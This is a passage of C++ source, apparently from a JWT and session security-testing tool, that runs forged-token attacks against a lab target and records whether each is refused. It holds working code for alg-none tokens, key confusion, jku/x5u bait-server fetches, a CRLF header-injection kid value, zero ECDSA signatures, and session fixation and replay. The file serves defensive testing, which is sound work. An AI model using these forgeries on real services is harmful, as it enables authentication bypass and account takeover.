#include "core/lab/AttackRunner.h"

#include "core/crypto/Hmac.h"
#include "core/crypto/Random.h"
#include "core/crypto/SelfSignedCertificate.h"
#include "core/jose/Base64Url.h"
#include "core/jose/JwkSet.h"
#include "core/jose/JwsAlgorithm.h"
#include "core/lab/BaitJwksServer.h"
#include "core/lab/HttpProbe.h"

#include <QDateTime>
#include <QElapsedTimer>
#include <QJsonArray>
#include <QJsonDocument>
#include <QRegularExpression>

namespace authscope::lab {

namespace {

using Outcome = AttackResult::Outcome;
using Headers = HttpProbe::Headers;

const QString kMePath = QStringLiteral("/api/me");
const QString kLoginPath = QStringLiteral("/login");
const QString kLogoutPath = QStringLiteral("/logout");
const QString kRefreshPath = QStringLiteral("/token/refresh");
const QString kJwksPath = QStringLiteral("/.well-known/jwks.json");

constexpr qsizetype kOversizedBytes = 17 * 1024; // above the 16 KiB cap of SECURITY.md 6
constexpr int kNestingDepth = 64;                // far above the JSON depth cap (16)

QByteArray b64(QByteArrayView data)
{
    return jose::Base64Url::encode(data);
}

QByteArray compactJson(const QJsonObject& object)
{
    return QJsonDocument(object).toJson(QJsonDocument::Compact);
}

QByteArray randomId(qsizetype bytes)
{
    auto random = crypto::Random::bytes(bytes);
    return random ? b64(*random) : QByteArray(bytes * 4 / 3, 'A');
}

// Appends `member` ("\"name\":value") to the JSON object text `object`.
QByteArray withMember(QByteArray object, const QByteArray& member)
{
    object.chop(1);
    return object + (object.size() > 1 ? "," : "") + member + '}';
}

// Appends a sentence to a result's detail.
void addNote(QString& detail, const QString& note)
{
    if (note.isEmpty()) {
        return;
    }
    detail = detail.isEmpty() ? note : detail + u' ' + note;
}

AttackSpec spec(const char* id, const char* name, const char* category, const char* reference, const char* description,
                const char* expected, bool needsKey = false, bool needsRevocation = false)
{
    return AttackSpec{QString::fromUtf8(id),
                      QString::fromUtf8(name),
                      QString::fromUtf8(category),
                      QString::fromUtf8(reference),
                      QString::fromUtf8(description),
                      QString::fromUtf8(expected),
                      needsKey,
                      needsRevocation};
}

// "401 invalid_token: The signature does not verify." — never a token, cookie or secret.
QString describe(const http::HttpClientResponse& response)
{
    const QJsonObject body = response.json();
    QString text = QString::number(response.status);
    if (response.status >= 200 && response.status < 300) {
        if (body.value(QStringLiteral("user")).isString()) {
            return text + QStringLiteral(" accepted as ") + body.value(QStringLiteral("user")).toString().left(40);
        }
        if (body.contains(QStringLiteral("access_token"))) {
            return text + QStringLiteral(" new tokens issued");
        }
        return text + QStringLiteral(" accepted");
    }
    const QString error = body.value(QStringLiteral("error")).toString().left(40);
    // A target that echoes the token it refused must not get it printed here.
    static const QRegularExpression jwtLike(QStringLiteral("eyJ[A-Za-z0-9_-]*(\\.[A-Za-z0-9_-]*)*"));
    QString description = body.value(QStringLiteral("error_description")).toString();
    description.replace(jwtLike, QStringLiteral("[token]"));
    if (!error.isEmpty()) {
        text += u' ' + error;
    }
    if (!description.isEmpty()) {
        text += QStringLiteral(": ") +
                (description.size() > 72 ? description.left(69) + QStringLiteral("...") : description);
    }
    return text;
}

bool isRefusal(int status, bool sizeLimit)
{
    return status == 400 || status == 401 || status == 403 || (sizeLimit && (status == 413 || status == 431));
}

// The decisive request of an attack turned into its result (see AttackResult for what counts as refused).
AttackResult judge(const AttackSpec& attack, const Result<http::HttpClientResponse>& response, bool sizeLimit = false)
{
    AttackResult r;
    r.spec = attack;
    if (!response) {
        if (sizeLimit && response.error().code == QStringLiteral("lab.io")) {
            // Closing the connection on an oversized request without answering is a refusal too.
            r.outcome = Outcome::Refused;
            r.got = QStringLiteral("connection closed");
            r.detail = response.error().message;
            return r;
        }
        r.outcome = Outcome::Error;
        r.got = QStringLiteral("no answer");
        r.detail = response.error().message;
        return r;
    }
    r.status = response->status;
    r.got = describe(*response);
    if (response->status >= 200 && response->status < 300) {
        r.outcome = Outcome::Accepted;
        r.detail = QStringLiteral("The target accepted the attack.");
    } else if (isRefusal(response->status, sizeLimit)) {
        r.outcome = Outcome::Refused;
    } else {
        r.outcome = Outcome::Error;
        r.detail = QStringLiteral("Neither accepted nor refused: HTTP %1 decides nothing about this attack.")
                       .arg(response->status);
    }
    return r;
}

AttackResult finish(const AttackSpec& attack, Outcome outcome, const QString& got, const QString& detail)
{
    AttackResult r;
    r.spec = attack;
    r.outcome = outcome;
    r.got = got;
    r.detail = detail;
    return r;
}

// One run: the target, what the preflight learned about it, and the attacker's own keys.
class Run final
{
public:
    Run(const AttackTarget& target, HttpProbe probe) : m_target(target), m_probe(std::move(probe)) {}

    Result<void> prepare();
    AttackResult execute(const AttackSpec& attack);

private:
    struct Login
    {
        QByteArray accessToken;
        QByteArray refreshToken;
        QByteArray cookie; // session mode: the cookie value
    };

    Result<Login> loginJwt();
    Result<Login> loginSession(const QByteArray& carriedCookie = {});
    Result<http::HttpClientResponse> bearer(const QByteArray& token) const;
    Result<http::HttpClientResponse> withCookie(const QByteArray& value) const;
    Result<http::HttpClientResponse> refresh(const QByteArray& refreshToken) const;
    Result<void> prepareSigningKey();

    // Claims that the target would accept from its own key: its iss, aud and sub, fresh iat/exp/jti.
    [[nodiscard]] QJsonObject freshClaims() const;
    [[nodiscard]] QJsonObject realHeader() const;
    // header.payload.signature with exactly these header and payload bytes, signed by `key`.
    Result<QByteArray> signRaw(const QByteArray& headerText, const QByteArray& payloadText, const jose::Jwk& key,
                               jose::JwsAlgorithm algorithm) const;
    Result<QByteArray> signReal(const QJsonObject& claims) const;
    Result<QByteArray> hmacToken(const QJsonObject& header, const QByteArray& secret) const;

    AttackResult algNone(const AttackSpec& attack, const QString& alg);
    AttackResult signatureStripped(const AttackSpec& attack);
    AttackResult tamperedPayload(const AttackSpec& attack);
    AttackResult keyConfusion(const AttackSpec& attack, bool pem);
    AttackResult embeddedJwk(const AttackSpec& attack);
    AttackResult remoteKeyUrl(const AttackSpec& attack, bool x5u);
    AttackResult kidInjection(const AttackSpec& attack, const QString& kid, const QByteArray& secret);
    AttackResult kidHeaderInjection(const AttackSpec& attack);
    AttackResult ecdsaZero(const AttackSpec& attack);
    AttackResult signedWithRealKey(const AttackSpec& attack, const QByteArray& headerText,
                                   const QByteArray& payloadText, bool sizeLimit = false, const QString& note = {});
    AttackResult claimsAttack(const AttackSpec& attack);
    AttackResult oversized(const AttackSpec& attack, bool nested);
    AttackResult revokedKey(const AttackSpec& attack);
    AttackResult sessionForged(const AttackSpec& attack, const QByteArray& value);
    AttackResult sessionFixation(const AttackSpec& attack);
    AttackResult sessionAfterRelogin(const AttackSpec& attack);
    AttackResult sessionAfterLogout(const AttackSpec& attack);
    AttackResult jwtAfterLogout(const AttackSpec& attack);
    AttackResult refreshReplay(const AttackSpec& attack, bool family);

    const AttackTarget& m_target;
    HttpProbe m_probe;
    QString m_cookieName = QStringLiteral("sid");

    // From the preflight login and the JWKS.
    QByteArray m_issuedToken;
    QJsonObject m_issuedHeader;
    QJsonValue m_issuer;
    QJsonValue m_audience;
    QString m_subject;
    QString m_typ;
    std::optional<jose::JwkSet> m_jwks;
    QString m_jwksProblem;

    // The real signing key (with its kid and alg), when the caller gave it.
    std::optional<jose::Jwk> m_signingKey;
    jose::JwsAlgorithm m_signingAlg = jose::JwsAlgorithm::RS256;

    // The attacker: an own P-256 key, a self-signed certificate with its key, and the bait server for jku/x5u.
    jose::Jwk m_attackerKey;
    jose::Jwk m_certificateKey;
    BaitJwksServer m_bait;
};

Result<http::HttpClientResponse> Run::bearer(const QByteArray& token) const
{
    return m_probe.get(kMePath, {{QByteArrayLiteral("Authorization"), QByteArrayLiteral("Bearer ") + token}});
}

Result<http::HttpClientResponse> Run::withCookie(const QByteArray& value) const
{
    return m_probe.get(kMePath, {{QByteArrayLiteral("Cookie"), m_cookieName.toLatin1() + '=' + value}});
}

Result<http::HttpClientResponse> Run::refresh(const QByteArray& refreshToken) const
{
    return m_probe.postJson(kRefreshPath,
                            QJsonObject{{QStringLiteral("grant_type"), QStringLiteral("refresh_token")},
                                        {QStringLiteral("refresh_token"), QString::fromLatin1(refreshToken)}});
}

Result<Run::Login> Run::loginJwt()
{
    auto r =
        m_probe.postJson(kLoginPath, QJsonObject{{QStringLiteral("username"), m_target.username},
                                                 {QStringLiteral("password"), QString::fromUtf8(m_target.password)},
                                                 {QStringLiteral("mode"), QStringLiteral("jwt")}});
    if (!r) {
        return std::unexpected(r.error());
    }
    const QJsonObject body = r->json();
    Login login;
    login.accessToken = body.value(QStringLiteral("access_token")).toString().toLatin1();
    login.refreshToken = body.value(QStringLiteral("refresh_token")).toString().toLatin1();
    if (r->status != 200 || login.accessToken.isEmpty()) {
        return fail(QStringLiteral("lab.login"),
                    QStringLiteral("JWT login as %1 failed: %2").arg(m_target.username.left(64), describe(*r)));
    }
    return login;
}

Result<Run::Login> Run::loginSession(const QByteArray& carriedCookie)
{
    Headers headers;
    if (!carriedCookie.isEmpty()) {
        headers.append({QByteArrayLiteral("Cookie"), m_cookieName.toLatin1() + '=' + carriedCookie});
    }
    auto r = m_probe.postJson(kLoginPath,
                              QJsonObject{{QStringLiteral("username"), m_target.username},
                                          {QStringLiteral("password"), QString::fromUtf8(m_target.password)},
                                          {QStringLiteral("mode"), QStringLiteral("session")}},
                              headers);
    if (!r) {
        return std::unexpected(r.error());
    }
    Login login;
    // The cookie's name is whatever the target sets (sid, or __Host-sid over TLS).
    const QByteArray setCookie = r->header("set-cookie");
    if (const qsizetype eq = setCookie.indexOf('='); eq > 0) {
        m_cookieName = QString::fromLatin1(setCookie.left(eq));
        login.cookie = r->setCookieValue(setCookie.left(eq));
    }
    if (r->status != 200 || login.cookie.isEmpty()) {
        return fail(QStringLiteral("lab.login"),
                    QStringLiteral("Session login as %1 failed: %2").arg(m_target.username.left(64), describe(*r)));
    }
    return login;
}

Result<void> Run::prepare()
{
    const auto unusable = [](const QString& message) { return fail(QStringLiteral("lab.target-unusable"), message); };
    auto login = loginJwt();
    if (!login) {
        return unusable(login.error().message);
    }
    auto me = bearer(login->accessToken);
    if (!me) {
        return unusable(me.error().message);
    }
    if (me->status != 200) {
        return unusable(QStringLiteral("GET /api/me with the token the target just issued was refused (%1): every "
                                       "attack would pass for the wrong reason.")
                            .arg(describe(*me)));
    }
    m_issuedToken = login->accessToken;
    const QList<QByteArray> parts = m_issuedToken.split('.');
    auto header = parts.size() == 3 ? jose::Base64Url::decode(parts.at(0)) : Result<QByteArray>();
    auto payload = parts.size() == 3 ? jose::Base64Url::decode(parts.at(1)) : Result<QByteArray>();
    if (parts.size() != 3 || !header || !payload) {
        return unusable(QStringLiteral("The access token the target issues is not a compact JWS."));
    }
    m_issuedHeader = QJsonDocument::fromJson(*header).object();
    const QJsonObject claims = QJsonDocument::fromJson(*payload).object();
    m_issuer = m_target.issuer.isEmpty() ? claims.value(QStringLiteral("iss")) : QJsonValue(m_target.issuer);
    m_audience = m_target.audience.isEmpty() ? claims.value(QStringLiteral("aud")) : QJsonValue(m_target.audience);
    m_subject = claims.value(QStringLiteral("sub")).toString();
    m_typ = m_issuedHeader.value(QStringLiteral("typ")).toString();
    if (m_subject.isEmpty()) {
        m_subject = m_target.username;
    }

    // The published keys, for key confusion and the ECDSA row; a target without a JWKS only skips those rows.
    if (auto jwks = m_probe.get(kJwksPath); !jwks) {
        m_jwksProblem = jwks.error().message;
    } else if (jwks->status != 200) {
        m_jwksProblem = QStringLiteral("GET %1 answered %2").arg(kJwksPath, describe(*jwks));
    } else if (auto set = jose::JwkSet::fromJsonText(jwks->body); !set) {
        m_jwksProblem = QStringLiteral("The target's JWKS does not parse: %1").arg(set.error().message);
    } else {
        m_jwks = *set;
    }

    // The attacker's keys and the bait server.
    jose::Jwk::GenerateOptions options;
    options.type = jose::KeyType::Ec;
    options.kid = QStringLiteral("authscope-attacker");
    auto attacker = jose::Jwk::generate(options);
    if (!attacker) {
        return std::unexpected(attacker.error());
    }
    m_attackerKey = *attacker;
    auto certificate = crypto::SelfSignedCertificate::generate(QStringLiteral("authscope-attacker"), 1);
    if (!certificate) {
        return std::unexpected(certificate.error());
    }
    auto certificateKey = jose::Jwk::fromPem(certificate->privateKeyPem);
    if (!certificateKey) {
        return std::unexpected(certificateKey.error());
    }
    m_certificateKey = *certificateKey;
    m_certificateKey.setKid(QStringLiteral("authscope-attacker-x5u"));
    auto attackerPublic = m_attackerKey.publicKey();
    if (!attackerPublic) {
        return std::unexpected(attackerPublic.error());
    }
    const QByteArray baitJwks =
        compactJson(QJsonObject{{QStringLiteral("keys"), QJsonArray{attackerPublic->toJson(false)}}});
    if (auto started = m_bait.start(baitJwks, certificate->certificatePem); !started) {
        return std::unexpected(started.error());
    }
    return prepareSigningKey();
}

Result<void> Run::prepareSigningKey()
{
    if (!m_target.signingKey) {
        return {};
    }
    jose::Jwk key = *m_target.signingKey;
    if (!key.isPrivate()) {
        return fail(QStringLiteral("lab.key-not-accepted"),
                    QStringLiteral("The signing key given is a public key; the claim attacks need the private key."));
    }
    // A PEM key has no kid: find it in the target's JWKS by thumbprint, else use the issued token's.
    if (key.kid().isEmpty()) {
        QString kid;
        if (m_jwks && !key.isSymmetric()) {
            const auto mine = key.thumbprintBase64Url();
            for (const jose::Jwk& published : m_jwks->keys()) {
                const auto theirs = published.thumbprintBase64Url();
                if (mine && theirs && *mine == *theirs) {
                    kid = published.kid();
                    if (key.alg().isEmpty() && !published.alg().isEmpty()) {
                        key.setAlg(published.alg());
                    }
                }
            }
        }
        if (kid.isEmpty()) {
            kid = m_issuedHeader.value(QStringLiteral("kid")).toString();
        }
        key.setKid(kid);
    }
    std::optional<jose::JwsAlgorithm> alg;
    if (!key.alg().isEmpty()) {
        alg = jose::JwsAlgorithms::fromName(key.alg());
    }
    if (!alg) {
        const auto issued = jose::JwsAlgorithms::fromName(m_issuedHeader.value(QStringLiteral("alg")).toString());
        if (issued && key.fitsType(*issued)) {
            alg = issued;
        } else if (const auto pinned = key.pinnedAlgorithms(); !pinned.isEmpty()) {
            alg = pinned.constFirst();
        }
    }
    if (!alg) {
        return fail(QStringLiteral("lab.key-not-accepted"), QStringLiteral("The signing key given can sign nothing."));
    }
    m_signingKey = key;
    m_signingAlg = *alg;
    // The control: a well-formed token of this key must be accepted, or every claim row would pass for the wrong
    // reason (a bad signature, not the claim).
    auto token = signReal(freshClaims());
    if (!token) {
        return fail(QStringLiteral("lab.key-not-accepted"),
                    QStringLiteral("Cannot sign with the key given: %1").arg(token.error().message));
    }
    auto me = bearer(*token);
    if (!me) {
        return std::unexpected(me.error());
    }
    if (me->status != 200) {
        return fail(QStringLiteral("lab.key-not-accepted"),
                    QStringLiteral("A well-formed token signed with the key given (kid '%1', %2) was refused: %3. "
                                   "Is it the target's active signing key?")
                        .arg(key.kid().left(80), jose::JwsAlgorithms::name(m_signingAlg), describe(*me)));
    }
    return {};
}

QJsonObject Run::freshClaims() const
{
    const qint64 now = QDateTime::currentSecsSinceEpoch();
    QJsonObject claims{{QStringLiteral("sub"), m_subject},
                       {QStringLiteral("iat"), now},
                       {QStringLiteral("exp"), now + 300},
                       {QStringLiteral("jti"), QString::fromLatin1(randomId(16))}};
    if (!m_issuer.isUndefined()) {
        claims.insert(QStringLiteral("iss"), m_issuer);
    }
    if (!m_audience.isUndefined()) {
        claims.insert(QStringLiteral("aud"), m_audience);
    }
    return claims;
}

QJsonObject Run::realHeader() const
{
    QJsonObject header{{QStringLiteral("alg"), jose::JwsAlgorithms::name(m_signingAlg)}};
    if (m_signingKey && !m_signingKey->kid().isEmpty()) {
        header.insert(QStringLiteral("kid"), m_signingKey->kid());
    }
    if (!m_typ.isEmpty()) {
        header.insert(QStringLiteral("typ"), m_typ);
    }
    return header;
}

Result<QByteArray> Run::signRaw(const QByteArray& headerText, const QByteArray& payloadText, const jose::Jwk& key,
                                jose::JwsAlgorithm algorithm) const
{
    const QByteArray input = b64(headerText) + '.' + b64(payloadText);
    auto signature = key.sign(algorithm, input);
    if (!signature) {
        return std::unexpected(signature.error());
    }
    return input + '.' + b64(*signature);
}

Result<QByteArray> Run::signReal(const QJsonObject& claims) const
{
    return signRaw(compactJson(realHeader()), compactJson(claims), *m_signingKey, m_signingAlg);
}

Result<QByteArray> Run::hmacToken(const QJsonObject& header, const QByteArray& secret) const
{
    const QByteArray input = b64(compactJson(header)) + '.' + b64(compactJson(freshClaims()));
    auto mac = crypto::Hmac::compute(crypto::DigestAlgorithm::Sha256, secret, input);
    if (!mac && secret.isEmpty()) {
        // OpenSSL may refuse an empty HMAC key; a single zero byte gives the same HMAC (keys are zero-padded).
        mac = crypto::Hmac::compute(crypto::DigestAlgorithm::Sha256, QByteArray(1, '\0'), input);
    }
    if (!mac) {
        return std::unexpected(mac.error());
    }
    return input + '.' + b64(*mac);
}

AttackResult Run::algNone(const AttackSpec& attack, const QString& alg)
{
    QJsonObject header{{QStringLiteral("alg"), alg}};
    if (!m_typ.isEmpty()) {
        header.insert(QStringLiteral("typ"), m_typ);
    }
    const QByteArray token = b64(compactJson(header)) + '.' + b64(compactJson(freshClaims())) + '.';
    return judge(attack, bearer(token));
}

AttackResult Run::signatureStripped(const AttackSpec& attack)
{
    const qsizetype lastDot = m_issuedToken.lastIndexOf('.');
    return judge(attack, bearer(m_issuedToken.left(lastDot + 1)));
}

AttackResult Run::tamperedPayload(const AttackSpec& attack)
{
    QList<QByteArray> parts = m_issuedToken.split('.');
    auto payload = jose::Base64Url::decode(parts.at(1));
    QJsonObject claims = QJsonDocument::fromJson(payload ? *payload : QByteArray()).object();
    claims.insert(QStringLiteral("sub"), QStringLiteral("admin"));
    claims.insert(QStringLiteral("roles"), QJsonArray{QStringLiteral("admin")});
    parts[1] = b64(compactJson(claims));
    AttackResult r = judge(attack, bearer(parts.join('.')));
    addNote(r.detail, QStringLiteral("The target's own token, with sub and roles changed to admin."));
    return r;
}

AttackResult Run::keyConfusion(const AttackSpec& attack, bool pem)
{
    if (!m_jwks) {
        return finish(attack, Outcome::Skipped, QStringLiteral("-"),
                      QStringLiteral("Needs the target's JWKS: %1").arg(m_jwksProblem));
    }
    const jose::Jwk* publicKey = nullptr;
    for (const jose::Jwk& k : m_jwks->keys()) {
        if (k.type() == jose::KeyType::Rsa || k.type() == jose::KeyType::Ec) {
            publicKey = &k;
            break;
        }
    }
    if (publicKey == nullptr) {
        return finish(attack, Outcome::Skipped, QStringLiteral("-"),
                      QStringLiteral("The target publishes no RSA or EC key to confuse."));
    }
    QByteArray secret;
    if (pem) {
        auto text = publicKey->toPem(crypto::PemFormat::PublicSpki);
        if (!text) {
            return finish(attack, Outcome::Error, QStringLiteral("-"), text.error().message);
        }
        secret = *text;
    } else {
        secret = compactJson(publicKey->toJson(false));
    }
    QJsonObject header{{QStringLiteral("alg"), QStringLiteral("HS256")}, {QStringLiteral("kid"), publicKey->kid()}};
    if (!m_typ.isEmpty()) {
        header.insert(QStringLiteral("typ"), m_typ);
    }
    auto token = hmacToken(header, secret);
    if (!token) {
        return finish(attack, Outcome::Error, QStringLiteral("-"), token.error().message);
    }
    AttackResult r = judge(attack, bearer(*token));
    addNote(r.detail, QStringLiteral("HS256 keyed with the %1 of %2 key '%3'.")
                          .arg(pem ? QStringLiteral("SPKI PEM") : QStringLiteral("public JWK text"),
                               publicKey->typeName(), publicKey->kid().left(40)));
    return r;
}

AttackResult Run::embeddedJwk(const AttackSpec& attack)
{
    auto attackerPublic = m_attackerKey.publicKey();
    if (!attackerPublic) {
        return finish(attack, Outcome::Error, QStringLiteral("-"), attackerPublic.error().message);
    }
    QJsonObject header{{QStringLiteral("alg"), QStringLiteral("ES256")},
                       {QStringLiteral("jwk"), attackerPublic->toJson(false)}};
    if (!m_typ.isEmpty()) {
        header.insert(QStringLiteral("typ"), m_typ);
    }
    auto token = signRaw(compactJson(header), compactJson(freshClaims()), m_attackerKey, jose::JwsAlgorithm::ES256);
    if (!token) {
        return finish(attack, Outcome::Error, QStringLiteral("-"), token.error().message);
    }
    return judge(attack, bearer(*token));
}

AttackResult Run::remoteKeyUrl(const AttackSpec& attack, bool x5u)
{
    const jose::Jwk& key = x5u ? m_certificateKey : m_attackerKey;
    const QString url = m_bait.url(x5u ? QStringLiteral("/cert.pem") : QStringLiteral("/jwks.json"));
    QJsonObject header{{QStringLiteral("alg"), QStringLiteral("ES256")},
                       {QStringLiteral("kid"), key.kid()},
                       {x5u ? QStringLiteral("x5u") : QStringLiteral("jku"), url}};
    if (!m_typ.isEmpty()) {
        header.insert(QStringLiteral("typ"), m_typ);
    }
    auto token = signRaw(compactJson(header), compactJson(freshClaims()), key, jose::JwsAlgorithm::ES256);
    if (!token) {
        return finish(attack, Outcome::Error, QStringLiteral("-"), token.error().message);
    }
    const int before = m_bait.requestCount();
    AttackResult r = judge(attack, bearer(*token));
    const int fetched = m_bait.requestCount() - before;
    if (fetched > 0) {
        r.outcome = Outcome::Accepted;
        r.detail = QStringLiteral("The target fetched the %1 URL from the token header (%2 request(s) to the bait "
                                  "server): a header chose where keys come from. %3")
                       .arg(x5u ? QStringLiteral("x5u") : QStringLiteral("jku"))
                       .arg(fetched)
                       .arg(r.detail);
    } else {
        QString note = QStringLiteral("Bait server fetched: no.");
        if (!m_probe.isLoopback()) {
            note += QStringLiteral(" (The target is not on this machine, so a fetch of %1 would reach its own loopback "
                                   "and could not be seen here.)")
                        .arg(url);
        }
        addNote(r.detail, note);
    }
    return r;
}

AttackResult Run::kidInjection(const AttackSpec& attack, const QString& kid, const QByteArray& secret)
{
    QJsonObject header{{QStringLiteral("alg"), QStringLiteral("HS256")}, {QStringLiteral("kid"), kid}};
    if (!m_typ.isEmpty()) {
        header.insert(QStringLiteral("typ"), m_typ);
    }
    auto token = hmacToken(header, secret);
    if (!token) {
        return finish(attack, Outcome::Error, QStringLiteral("-"), token.error().message);
    }
    return judge(attack, bearer(*token));
}

AttackResult Run::kidHeaderInjection(const AttackSpec& attack)
{
    // Servers like to say which kid they did not find; a CR LF in it must never become a response header.
    QJsonObject header{{QStringLiteral("alg"), QStringLiteral("HS256")},
                       {QStringLiteral("kid"), QStringLiteral("attack\r\nX-AuthScope-Injected: 1\r\n")}};
    if (!m_typ.isEmpty()) {
        header.insert(QStringLiteral("typ"), m_typ);
    }
    auto token = hmacToken(header, randomId(32));
    if (!token) {
        return finish(attack, Outcome::Error, QStringLiteral("-"), token.error().message);
    }
    const auto response = bearer(*token);
    AttackResult r = judge(attack, response);
    if (response && !response->header("x-authscope-injected").isEmpty()) {
        r.outcome = Outcome::Accepted;
        r.detail = QStringLiteral("The kid was written into the response headers: a header (or a whole response) can "
                                  "be injected. ") +
                   r.detail;
    }
    return r;
}

AttackResult Run::ecdsaZero(const AttackSpec& attack)
{
    QString kid;
    QString note;
    if (m_jwks) {
        for (const jose::Jwk& k : m_jwks->keys()) {
            if (k.type() == jose::KeyType::Ec && k.curve() == QStringLiteral("P-256")) {
                kid = k.kid();
                break;
            }
        }
    }
    if (kid.isEmpty()) {
        kid = m_issuedHeader.value(QStringLiteral("kid")).toString();
        note = QStringLiteral("The target publishes no P-256 key: the algorithm pin may refuse this before the r/s "
                              "check.");
    }
    QJsonObject header{{QStringLiteral("alg"), QStringLiteral("ES256")}, {QStringLiteral("kid"), kid}};
    if (!m_typ.isEmpty()) {
        header.insert(QStringLiteral("typ"), m_typ);
    }
    const QByteArray token =
        b64(compactJson(header)) + '.' + b64(compactJson(freshClaims())) + '.' + b64(QByteArray(64, '\0'));
    AttackResult r = judge(attack, bearer(token));
    addNote(r.detail, note);
    return r;
}

AttackResult Run::signedWithRealKey(const AttackSpec& attack, const QByteArray& headerText,
                                    const QByteArray& payloadText, bool sizeLimit, const QString& note)
{
    auto token = signRaw(headerText, payloadText, *m_signingKey, m_signingAlg);
    if (!token) {
        return finish(attack, Outcome::Error, QStringLiteral("-"), token.error().message);
    }
    AttackResult r = judge(attack, bearer(*token), sizeLimit);
    addNote(r.detail, note);
    return r;
}

AttackResult Run::claimsAttack(const AttackSpec& attack)
{
    const qint64 now = QDateTime::currentSecsSinceEpoch();
    QJsonObject claims = freshClaims();
    QByteArray header = compactJson(realHeader());
    QByteArray payload;
    if (attack.id == QStringLiteral("crit-unknown")) {
        QJsonObject h = realHeader();
        h.insert(QStringLiteral("crit"), QJsonArray{QStringLiteral("urn:authscope:attack")});
        h.insert(QStringLiteral("urn:authscope:attack"), true);
        header = compactJson(h);
    } else if (attack.id == QStringLiteral("b64-false")) {
        // The payload stays base64url: whether or not b64 is honoured, the signature verifies, so only the rule
        // "a JWT with b64: false is rejected" can refuse it.
        QJsonObject h = realHeader();
        h.insert(QStringLiteral("b64"), false);
        h.insert(QStringLiteral("crit"), QJsonArray{QStringLiteral("b64")});
        header = compactJson(h);
    } else if (attack.id == QStringLiteral("duplicate-claims")) {
        // A parser that keeps the last member reads a valid token; the first sub says admin.
        payload = compactJson(claims);
        payload.insert(1, QByteArrayLiteral("\"sub\":\"admin\","));
    } else if (attack.id == QStringLiteral("duplicate-header")) {
        QByteArray h = compactJson(realHeader());
        h.insert(1, QByteArrayLiteral("\"alg\":\"none\","));
        header = h;
    } else if (attack.id == QStringLiteral("expired")) {
        claims.insert(QStringLiteral("iat"), now - 7200);
        claims.insert(QStringLiteral("exp"), now - 3600);
    } else if (attack.id == QStringLiteral("not-yet-valid")) {
        claims.insert(QStringLiteral("nbf"), now + 3600);
    } else if (attack.id == QStringLiteral("no-exp")) {
        claims.remove(QStringLiteral("exp"));
    } else if (attack.id == QStringLiteral("wrong-aud")) {
        claims.insert(QStringLiteral("aud"), QStringLiteral("authscope-attack-other-api"));
    } else if (attack.id == QStringLiteral("wrong-iss")) {
        claims.insert(QStringLiteral("iss"), QStringLiteral("https://attacker.invalid"));
    }
    if (payload.isEmpty()) {
        payload = compactJson(claims);
    }
    return signedWithRealKey(attack, header, payload);
}

AttackResult Run::oversized(const AttackSpec& attack, bool nested)
{
    QByteArray payload = compactJson(freshClaims());
    if (nested) {
        payload = withMember(payload, "\"nest\":" + QByteArray("{\"a\":").repeated(kNestingDepth) + "0" +
                                          QByteArray("}").repeated(kNestingDepth));
    } else {
        payload = withMember(payload, "\"pad\":\"" + QByteArray(kOversizedBytes, 'A') + '"');
    }
    if (m_signingKey) {
        return signedWithRealKey(attack, compactJson(realHeader()), payload, !nested);
    }
    QJsonObject header{{QStringLiteral("alg"), QStringLiteral("ES256")}, {QStringLiteral("kid"), m_attackerKey.kid()}};
    auto token = signRaw(compactJson(header), payload, m_attackerKey, jose::JwsAlgorithm::ES256);
    if (!token) {
        return finish(attack, Outcome::Error, QStringLiteral("-"), token.error().message);
    }
    AttackResult r = judge(attack, bearer(*token), !nested);
    addNote(r.detail, QStringLiteral("Signed with an attacker key (no --key): the signature check may be what "
                                     "refused it."));
    return r;
}

AttackResult Run::revokedKey(const AttackSpec& attack)
{
    auto token = signReal(freshClaims());
    if (!token) {
        return finish(attack, Outcome::Error, QStringLiteral("-"), token.error().message);
    }
    auto before = bearer(*token);
    if (!before || before->status != 200) {
        return finish(attack, Outcome::Error, before ? describe(*before) : QStringLiteral("no answer"),
                      QStringLiteral("Control failed: the token was refused before its key was revoked."));
    }
    auto next = m_target.rotateAndRevoke();
    if (!next) {
        return finish(attack, Outcome::Error, QStringLiteral("-"),
                      QStringLiteral("Could not revoke the signing key: %1").arg(next.error().message));
    }
    const QString revokedKid = m_signingKey->kid();
    AttackResult r = judge(attack, bearer(*token));
    addNote(r.detail,
            QStringLiteral("Accepted (200) before key '%1' was revoked; sent again after.").arg(revokedKid.left(40)));
    // Later rows sign with the key that is active now.
    m_signingKey = *next;
    if (const auto alg = jose::JwsAlgorithms::fromName(next->alg()); alg) {
        m_signingAlg = *alg;
    } else if (const auto pinned = next->pinnedAlgorithms(); !pinned.isEmpty()) {
        m_signingAlg = pinned.constFirst();
    }
    return r;
}

AttackResult Run::sessionForged(const AttackSpec& attack, const QByteArray& value)
{
    return judge(attack, withCookie(value));
}

AttackResult Run::sessionFixation(const AttackSpec& attack)
{
    // The attacker plants an ID of its choosing before the victim logs in; the login must not adopt it.
    const QByteArray planted = randomId(32);
    auto login = loginSession(planted);
    if (!login) {
        return finish(attack, Outcome::Error, QStringLiteral("-"), login.error().message);
    }
    AttackResult r = judge(attack, withCookie(planted));
    if (login->cookie == planted) {
        r.outcome = Outcome::Accepted;
        r.detail = QStringLiteral("The login kept the session ID the client brought. ") + r.detail;
    }
    return r;
}

AttackResult Run::sessionAfterRelogin(const AttackSpec& attack)
{
    auto first = loginSession();
    if (!first) {
        return finish(attack, Outcome::Error, QStringLiteral("-"), first.error().message);
    }
    auto second = loginSession(first->cookie);
    if (!second) {
        return finish(attack, Outcome::Error, QStringLiteral("-"), second.error().message);
    }
    AttackResult r = judge(attack, withCookie(first->cookie));
    if (second->cookie == first->cookie) {
        r.outcome = Outcome::Accepted;
        r.detail = QStringLiteral("Logging in again kept the same session ID. ") + r.detail;
    }
    return r;
}

AttackResult Run::sessionAfterLogout(const AttackSpec& attack)
{
    auto login = loginSession();
    if (!login) {
        return finish(attack, Outcome::Error, QStringLiteral("-"), login.error().message);
    }
    auto before = withCookie(login->cookie);
    if (!before || before->status != 200) {
        return finish(attack, Outcome::Error, before ? describe(*before) : QStringLiteral("no answer"),
                      QStringLiteral("Control failed: the fresh session cookie was refused."));
    }
    auto out = m_probe.send(QByteArrayLiteral("POST"), kLogoutPath,
                            {{QByteArrayLiteral("Cookie"), m_cookieName.toLatin1() + '=' + login->cookie}});
    if (!out || out->status != 200) {
        return finish(attack, Outcome::Error, out ? describe(*out) : QStringLiteral("no answer"),
                      QStringLiteral("Logout with the session cookie failed."));
    }
    return judge(attack, withCookie(login->cookie));
}

AttackResult Run::jwtAfterLogout(const AttackSpec& attack)
{
    auto login = loginJwt();
    if (!login) {
